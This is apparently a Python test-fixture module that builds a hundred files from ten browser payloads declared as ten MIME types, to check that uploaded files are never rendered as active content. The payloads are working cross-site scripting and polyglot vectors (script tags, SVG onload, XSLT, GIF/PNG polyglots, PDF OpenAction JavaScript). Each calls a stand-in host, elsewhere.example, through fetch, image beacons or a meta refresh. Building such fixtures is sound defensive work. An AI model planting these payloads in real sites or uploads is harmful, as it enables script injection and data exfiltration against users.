"""Files that would do harm if a browser showed them: ten ways to run something, each as ten kinds of file."""

from collections.abc import Iterator

ELSEWHERE = "http://elsewhere.example"
_RUN = f"globalThis.ran=1;document.title='ran';fetch('{ELSEWHERE}/fetched');new Image().src='{ELSEWHERE}/seen';alert(1)"
_SCRIPT = f"<script>{_RUN}</script>"
_XHTML = f'<html xmlns="http://www.w3.org/1999/xhtml"><head><script>//<![CDATA[\n{_RUN}\n//]]></script></head><body/></html>'
_SHEET = (
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
    f"{_SCRIPT}</xsl:template></xsl:stylesheet>"
)
_MHTML = f"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\nContent-Type: text/html\n\n{_SCRIPT}\n--x--\n"
_PAYLOADS: tuple[bytes, ...] = (
    f"<!doctype html><title>公告</title>{_SCRIPT}".encode(),
    f'<img src=x onerror="{_RUN}"><meta http-equiv=refresh content="0;url={ELSEWHERE}/sent"><base href="{ELSEWHERE}/">'.encode(),
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_RUN}"><image href="{ELSEWHERE}/drawn"/></svg>'.encode(),
    f'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script href="{ELSEWHERE}/taken.js"/>{_SCRIPT}</svg>'.encode(),
    f'<?xml version="1.0"?>{_XHTML}'.encode(),
    f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,{_SHEET.replace("<", "%3C")}"?><a/>'.encode(),
    b"GIF89a/*" + b"\0" * 8 + f"*/=1;{_RUN}//{_SCRIPT}".encode(),
    f"%PDF-1.7\n{_SCRIPT}\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.launchURL('{ELSEWHERE}/opened'))>>>>endobj\n%%EOF".encode(),
    b"\x89PNG\r\n\x1a\n" + f"<!--\n-->{_SCRIPT}".encode(),
    b"\xff\xfe" + f"{_SCRIPT}<iframe src='javascript:{_RUN}'></iframe>{_MHTML}".encode("utf-16-le"),
)
_TYPES = (
    *("text/html", "image/svg+xml", "application/xhtml+xml", "text/xml", "application/pdf"),
    *("image/gif", "text/plain", "text/javascript", "application/octet-stream", "multipart/related"),
)


def files() -> Iterator[tuple[str, bytes, str]]:
    """Name, content and declared kind of a hundred files."""
    for number, content in enumerate(_PAYLOADS):
        for kind in _TYPES:
            ending = kind.rpartition("/")[2].partition("+")[0]
            yield f"公告{number}.{ending}", content + f"<!--{kind}-->".encode(), kind
